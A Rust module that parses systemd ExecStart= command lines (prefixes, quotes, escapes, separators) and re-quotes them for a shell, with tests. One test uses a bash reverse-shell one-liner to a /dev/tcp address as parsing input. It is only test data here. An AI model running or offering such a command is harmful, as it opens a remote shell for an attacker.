//! The command lines of units: `ExecStart=` and its relatives.
//!
//! systemd.service(5), "Command lines": prefixes before the program, words split at blanks with
//! both kinds of quotes and C escapes, several commands separated by a word `;`. Specifiers
//! (`%i`) and variables (`$X`) are left as they are.

use crate::Text;

/// A character before the program.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Prefix {
    /// `@`: the second word is the name the program is told it has.
    Renamed,
    /// `-`: failure does not count.
    FailureIgnored,
    /// `:`: variables are not replaced.
    Verbatim,
    /// `+` or `!`: runs with full rights whatever `User=` says.
    Privileged,
    /// `|`: runs through the user's shell (systemd 258).
    ThroughShell,
}

/// One command of an `Exec*=` setting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecCommand {
    /// The characters before the program.
    pub prefixes: Vec<Prefix>,
    /// The program, unquoted.
    pub program: Text,
    /// The name the program is given instead of its own, after `@`.
    pub shown_name: Option<Text>,
    /// Arguments, unquoted.
    pub arguments: Vec<Text>,
}

impl ExecCommand {
    /// The command as a shell would have to be given it.
    pub fn command_line(&self) -> Text {
        shell_quoted(std::iter::once(&self.program).chain(&self.arguments))
    }
}

/// The commands of one `Exec*=` value; none for an empty one, which resets.
pub fn commands(value: &[u8]) -> Vec<ExecCommand> {
    let words = words(value);
    words.split(|word| word.separator).filter_map(command).collect()
}

fn command(words: &[Word]) -> Option<ExecCommand> {
    let (first, rest) = words.split_first()?;
    let (prefixes, program) = split_prefixes(first.text.as_bytes());
    let mut arguments: Vec<Text> = rest.iter().map(|word| word.text.clone()).collect();
    let shown_name =
        (prefixes.contains(&Prefix::Renamed) && !arguments.is_empty()).then(|| arguments.remove(0));
    Some(ExecCommand { prefixes, program: Text::from(program), shown_name, arguments })
}

fn split_prefixes(word: &[u8]) -> (Vec<Prefix>, &[u8]) {
    let mut prefixes = Vec::new();
    let mut rest = word;
    while let Some((first, after)) = rest.split_first() {
        prefixes.push(match first {
            b'@' => Prefix::Renamed,
            b'-' => Prefix::FailureIgnored,
            b':' => Prefix::Verbatim,
            b'+' | b'!' => Prefix::Privileged,
            b'|' => Prefix::ThroughShell,
            _ => break,
        });
        rest = after;
    }
    (prefixes, rest)
}

/// A word and whether it is a bare `;`.
struct Word {
    text: Text,
    separator: bool,
}

fn words(value: &[u8]) -> Vec<Word> {
    let mut found = Vec::new();
    let mut rest = value.trim_ascii_start();
    while !rest.is_empty() {
        let (text, separator, after) = next_word(rest);
        found.push(Word { text: Text::new(text), separator });
        rest = after.trim_ascii_start();
    }
    found
}

/// Splits quoted and escaped text at blanks, as systemd's `extract_first_word()` does.
pub fn split_words(value: &[u8]) -> Vec<Text> {
    words(value).into_iter().map(|word| word.text).collect()
}

fn next_word(bytes: &[u8]) -> (Vec<u8>, bool, &[u8]) {
    let mut text = Vec::new();
    let mut quote = None;
    let mut rest = bytes;
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        match (quote, byte) {
            (_, b'\\') => rest = unescape(after, &mut text),
            (Some(open), _) if open == byte => quote = None,
            (None, b'"' | b'\'') => quote = Some(byte),
            (None, _) if byte.is_ascii_whitespace() => break,
            _ => text.push(byte),
        }
    }
    let taken = bytes.len().saturating_sub(rest.len());
    let separator = text == b";" && bytes.get(..taken).is_some_and(|raw| raw.trim_ascii() == b";");
    (text, separator, rest)
}

/// Decodes what follows a backslash; an unknown escape keeps its backslash.
fn unescape<'a>(after: &'a [u8], text: &mut Vec<u8>) -> &'a [u8] {
    let Some((&code, rest)) = after.split_first() else {
        text.push(b'\\');
        return after;
    };
    let simple = match code {
        b'a' => 0x07,
        b'b' => 0x08,
        b'f' => 0x0c,
        b'n' => b'\n',
        b'r' => b'\r',
        b't' => b'\t',
        b'v' => 0x0b,
        b's' => b' ',
        b'\\' | b'"' | b'\'' | b';' => code,
        _ => return numbered(after, text),
    };
    text.push(simple);
    rest
}

/// `\xHH`, `\NNN` octal, `\uXXXX` and `\UXXXXXXXX`.
fn numbered<'a>(after: &'a [u8], text: &mut Vec<u8>) -> &'a [u8] {
    let (skip, length, radix) = match after.first() {
        Some(b'x') => (1, 2, 16),
        Some(b'u') => (1, 4, 16),
        Some(b'U') => (1, 8, 16),
        _ => (0, 3, 8),
    };
    let digits = after.get(skip..skip + length).and_then(|digits| std::str::from_utf8(digits).ok());
    let code = digits.and_then(|digits| u32::from_str_radix(digits, radix).ok());
    let Some(bytes) = code.and_then(|code| encoded(code, length)) else {
        text.push(b'\\');
        return after;
    };
    text.extend(bytes);
    after.get(skip + length..).unwrap_or_default()
}

/// A short escape is a byte, a long one a character.
fn encoded(code: u32, length: usize) -> Option<Vec<u8>> {
    if length <= 3 {
        return u8::try_from(code).ok().map(|byte| vec![byte]);
    }
    char::from_u32(code).map(|character| character.to_string().into_bytes())
}

/// Words joined so that a shell would split them into the same words again.
pub fn shell_quoted<'a>(words: impl IntoIterator<Item = &'a Text>) -> Text {
    let mut line = Vec::new();
    for word in words {
        if !line.is_empty() {
            line.push(b' ');
        }
        quote_word(word.as_bytes(), &mut line);
    }
    Text::new(line)
}

fn quote_word(word: &[u8], line: &mut Vec<u8>) {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/._-=:,+%@$".contains(byte);
    if !word.is_empty() && word.iter().all(plain) {
        line.extend_from_slice(word);
        return;
    }
    line.push(b'\'');
    for &byte in word {
        match byte {
            b'\'' => line.extend_from_slice(b"'\\''"),
            other => line.push(other),
        }
    }
    line.push(b'\'');
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn one(value: &str) -> ExecCommand {
        commands(value.as_bytes()).remove(0)
    }

    #[test]
    fn prefixes_are_taken_off_in_any_order() {
        let got = one("-@+/bin/login hidden -p");
        assert_eq!(got.prefixes, [Prefix::FailureIgnored, Prefix::Renamed, Prefix::Privileged]);
        assert_eq!(got.program, "/bin/login");
        assert_eq!(got.shown_name, Some(Text::from("hidden")));
        assert_eq!(got.arguments, [Text::from("-p")]);
    }

    #[test]
    fn quotes_and_escapes_are_resolved_and_given_back_quoted_for_a_shell() {
        let got = one(r#"/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1' "a\x41\101\sb""#);
        assert_eq!(got.arguments[2], "aAA b");
        let line = "/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1' 'aAA b'";
        assert_eq!(got.command_line(), line);
    }

    #[test]
    fn a_lone_semicolon_separates_commands_and_a_quoted_one_does_not() {
        let got = commands(b"/bin/a 1 ; /bin/b \\; ';' 2");
        assert_eq!(got.len(), 2);
        assert_eq!(got[1].arguments, [Text::from(";"), Text::from(";"), Text::from("2")]);
    }

    #[test]
    fn specifiers_and_variables_stay() {
        assert_eq!(one("/bin/x %i $OPTS ${A}").command_line(), "/bin/x %i $OPTS '${A}'");
    }

    #[test]
    fn an_empty_value_has_no_command() {
        assert!(commands(b"  ").is_empty());
    }

    proptest! {
        #[test]
        fn any_bytes_parse(bytes: Vec<u8>) {
            for command in commands(&bytes) {
                command.command_line();
            }
        }

        #[test]
        fn quoting_for_a_shell_loses_no_word(words in proptest::collection::vec("[ -~]{0,12}", 1..6)) {
            let words: Vec<Text> = words.into_iter().map(Text::from).collect();
            let line = shell_quoted(&words);
            prop_assume!(!line.as_bytes().contains(&b'\\'));
            prop_assert_eq!(split_words(line.as_bytes()), words);
        }
    }
}
